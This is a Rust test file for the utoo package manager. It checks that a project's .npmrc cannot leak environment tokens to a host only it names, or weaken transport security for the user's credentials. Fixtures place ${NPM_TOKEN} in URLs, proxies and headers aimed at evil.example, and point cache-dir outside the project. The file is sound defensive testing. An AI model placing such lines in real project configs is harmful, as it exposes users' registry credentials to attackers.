//! A project's `.npmrc` cannot send a value of the environment to a host that only it names.

mod common;

use common::{Place, header, url};
use utoo_config::public_registry;

const PROJECT: &str = "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n";

fn place() -> Place {
    Place::new().env("NPM_TOKEN", "hunter2")
}

#[test]
fn a_token_of_the_environment_is_withheld_and_said_so() {
    for key in ["_authToken", "_auth", "_password", "username"] {
        let config = place()
            .project(&format!("registry=https://evil.example/\n//evil.example/:{key}=${{NPM_TOKEN}}"))
            .load();
        assert_eq!(header(&config, "https://evil.example/foo"), "-", "{key}");
        assert_eq!(config.warnings().len(), 1);
        assert!(config.warnings()[0].message.contains("${NPM_TOKEN}"));
        let withheld = config.withheld_for(&url("https://evil.example/foo")).unwrap();
        assert_eq!(withheld.key, format!("//evil.example/:{key}"));
        assert!(!format!("{withheld:?}{:?}", config.warnings()).contains("hunter2"));
    }
}

#[test]
fn the_user_can_name_the_host() {
    for allowed in [
        place().user("registry=https://evil.example/"),
        place().user("@corp:registry=https://evil.example/npm/"),
        place().user("//evil.example/other/:_authToken=x"),
        place().user("trusted-registries=one.example,evil.example"),
        place().global("trusted-registries[]=https://evil.example/"),
        place().env("NPM_CONFIG_REGISTRY", "https://evil.example"),
        place().env("npm_config_trusted_registries", "evil.example"),
        place().flag("registry", "https://evil.example/"),
    ] {
        let config = allowed.project(PROJECT).load();
        assert_eq!(header(&config, "https://evil.example/foo"), "Bearer hunter2");
        assert_eq!(config.warnings(), []);
    }
}

#[test]
fn the_public_registry_is_named_by_everyone() {
    let public = public_registry();
    let path = public.as_str().trim_start_matches("https:");
    let config = place().project(&format!("{path}:_authToken=${{NPM_TOKEN}}")).load();
    assert_eq!(header(&config, public.join("foo").unwrap().as_str()), "Bearer hunter2");
}

#[test]
fn the_project_cannot_name_it_for_the_user() {
    for more in
        ["trusted-registries=evil.example", "userconfig=posing", "globalconfig=posing", "prefix=prefix"]
    {
        let posing = "trusted-registries=evil.example\n//evil.example/:_authToken=${NPM_TOKEN}\n";
        let config = place()
            .file("project/posing", posing)
            .file("project/prefix/etc/npmrc", posing)
            .project(&format!("{PROJECT}{more}\n"))
            .load();
        assert_eq!(header(&config, "https://evil.example/foo"), "-", "{more}");
    }
}

#[test]
fn another_port_or_host_is_another_host() {
    let config = place()
        .user("registry=https://good.example:8443/")
        .project("//good.example/:_authToken=${NPM_TOKEN}\n//evil.good.example:8443/:_authToken=${NPM_TOKEN}")
        .load();
    assert_eq!(header(&config, "https://good.example/foo"), "-");
    assert_eq!(header(&config, "https://evil.good.example:8443/foo"), "-");
    assert_eq!(config.warnings().len(), 2);
}

#[test]
fn a_literal_of_the_project_is_its_own() {
    let config = place().project("//evil.example/:_authToken=literal").load();
    assert_eq!(header(&config, "https://evil.example/foo"), "Bearer literal");
}

#[test]
fn an_unset_variable_sends_its_own_name_as_npm_does() {
    let config = Place::new().project("//evil.example/:_authToken=${NPM_TOKEN}").load();
    assert_eq!(header(&config, "https://evil.example/foo"), "Bearer ${NPM_TOKEN}");
}

#[test]
fn urls_are_no_way_around_it() {
    for (key, line) in [
        ("registry", "registry=https://evil.example/${NPM_TOKEN}/"),
        ("registry", "registry=https://${NPM_TOKEN}.evil.example/"),
        ("registry", "registry=https://${NPM_TOKEN}@evil.example/"),
        ("@s:registry", "@s:registry=https://evil.example/${NPM_TOKEN}/"),
        ("proxy", "proxy=http://u:${NPM_TOKEN}@evil.example:80"),
        ("https-proxy", "https-proxy=${NPM_TOKEN}.evil.example:80"),
        ("user-agent", "user-agent=${NPM_TOKEN}"),
        ("tag", "tag=${NPM_TOKEN}"),
    ] {
        let (code, message) = place().project(line).error();
        assert_eq!(code, "EUNTRUSTEDENV", "{line}");
        let expected =
            format!("project/.npmrc:1: {key} would send ${{NPM_TOKEN}} to a host that only this file names");
        assert_eq!(message, expected);
    }
}

#[test]
fn the_environment_may_name_the_registry_itself() {
    for (value, line) in
        [("https://corp.example/npm", "registry=${REG}"), ("https://corp.example", "registry=${REG}/npm")]
    {
        let config = Place::new().env("REG", value).project(line).load();
        assert_eq!(config.default_registry().as_str(), "https://corp.example/npm/");
    }
    // Only the scheme, or a host that goes on behind the variable, is not naming it.
    for (value, line) in
        [("https", "registry=${REG}://evil.example/"), ("https://a", "registry=${REG}.evil.example/")]
    {
        assert_eq!(Place::new().env("REG", value).project(line).error().0, "EUNTRUSTEDENV", "{line}");
    }
}

/// A token is kept by host, and the project says how that host is reached: through a proxy of its own, unencrypted or
/// with certificates that anybody can make.
#[test]
fn the_users_credentials_do_not_travel_where_the_project_could_read_along() {
    let host = public_registry().host_str().unwrap().to_owned();
    let plain = format!("registry=http://{host}/\n");
    let encrypted = format!("registry=https://{host}/\n");
    for (project, scheme, key) in [
        (format!("{plain}proxy=http://evil.example:80"), "http", "proxy"),
        (format!("{plain}https-proxy=http://evil.example:80"), "http", "https-proxy"),
        (plain, "http", "https"),
        (format!("{encrypted}strict-ssl=false"), "https", "strict-ssl"),
        (format!("{encrypted}cafile=evil.pem\nhttps-proxy=http://evil.example:80"), "https", "cafile"),
        (format!("{encrypted}ca=evil"), "https", "ca"),
    ] {
        let place = place().user(&format!("//{host}/:_authToken=hunter2")).project(&project);
        let config = place.load();
        let url = url(&format!("{scheme}://{host}/foo"));
        assert_eq!(config.credentials_for(&url), None, "{project}");
        assert_eq!(config.credentials_for_tarball(&url, config.default_registry()), None, "{project}");
        let withheld = config.withheld_for(&url).unwrap();
        assert!(withheld.message().contains(key), "{}", withheld.message());
        assert_eq!(config.warnings().len(), 1, "{project}: {:?}", config.warnings());
        assert!(config.warnings()[0].to_string().contains(".npmrc:"), "{}", config.warnings()[0]);
        assert!(!format!("{withheld:?}{:?}", config.warnings()).contains("hunter2"));
    }
}

/// What the user says himself, and what the project's author knows anyway, is sent as before.
#[test]
fn credentials_travel_as_their_owner_says() {
    let token = "//corp.example/:_authToken=hunter2\n";
    for (place, url) in [
        (place().user(token).project("registry=https://corp.example/"), "https"),
        (place().user(token).project("registry=https://corp.example/\nproxy=http://any.example:80"), "https"),
        (
            place().user(&format!("{token}strict-ssl=false")).project("registry=https://corp.example/"),
            "https",
        ),
        (place().user(token).flag("strict-ssl", "false").project("registry=https://corp.example/"), "https"),
        // Nobody ever said that it is to be asked by https.
        (place().user(token).project("registry=http://corp.example/"), "http"),
        (place().user(token).project("registry=http://corp.example/\nproxy=false"), "http"),
        (place().user(&format!("{token}registry=http://corp.example/")), "http"),
        (place().user(&format!("{token}proxy=http://own.example:80\nregistry=http://corp.example/")), "http"),
        (
            place()
                .user(&format!("{token}trusted-registries=http://corp.example/"))
                .project("registry=https://corp.example/"),
            "http",
        ),
        (place().project(&format!("{token}strict-ssl=false")), "https"),
        (
            place().project(&format!("{token}registry=https://corp.example/\nproxy=http://any.example:80")),
            "http",
        ),
    ] {
        let config = place.load();
        assert_eq!(header(&config, &format!("{url}://corp.example/foo")), "Bearer hunter2", "{place:?}");
        assert_eq!(config.warnings(), [], "{place:?}");
    }
}

/// A lockfile's address for a tarball is somebody else's text, too.
#[test]
fn a_host_that_is_asked_by_https_gets_no_credentials_by_http() {
    for place in [
        place().user("registry=https://corp.example/\n//corp.example/:_authToken=hunter2"),
        place().user("//corp.example/:_authToken=hunter2").project("@s:registry=https://corp.example/"),
        place().user("trusted-registries=https://corp.example\n//corp.example/:_authToken=hunter2"),
        place().user("//corp.example/:_authToken=hunter2").project("registry=https://corp.example/"),
    ] {
        let config = place.load();
        assert_eq!(header(&config, "http://corp.example/a.tgz"), "-", "{place:?}");
        assert_eq!(header(&config, "https://corp.example/a.tgz"), "Bearer hunter2", "{place:?}");
        assert_eq!(config.warnings(), []);
    }
}

#[test]
fn a_variable_of_the_project_is_no_literal_on_the_way() {
    let config = place()
        .user("registry=https://corp.example/")
        .project("//corp.example/:_authToken=${NPM_TOKEN}\nstrict-ssl=false")
        .load();
    assert_eq!(header(&config, "https://corp.example/foo"), "-");
    let config = place().user("registry=https://u:hunter2@corp.example/").project("strict-ssl=false").load();
    assert_eq!(header(&config, "https://corp.example/foo"), "-");
}

/// `utoo clean` empties the cache: a project cannot say that it is the user's folders.
#[test]
fn a_projects_cache_is_inside_of_the_project() {
    for (line, is_taken) in [
        ("cache-dir=cache", true),
        ("cache-dir=a/b/cache", true),
        ("cache-dir=../outside", false),
        ("cache-dir=~/", false),
        ("cache-dir=.", false),
        ("cache-dir=a/../..", false),
        ("cache-dir=${HOME_OF_USER}", false),
        ("cache-dir=link", false),
        ("cache-dir=link/below/it", false),
    ] {
        let place = Place::new().file("home/kept", "").project(line);
        let place = place.env("HOME_OF_USER", "/home/user");
        std::os::unix::fs::symlink(place.path("home"), place.path("project/link")).unwrap();
        let config = place.load();
        let inside = config.cache_dir().starts_with(place.path("project"));
        assert_eq!((inside, config.warnings().len()), (is_taken, usize::from(!is_taken)), "{line}");
        let place = place.user("cache-dir=~/own");
        let expected = if is_taken { inside } else { place.load().cache_dir() == place.path("home/own") };
        assert!(expected, "{line}");
    }
}
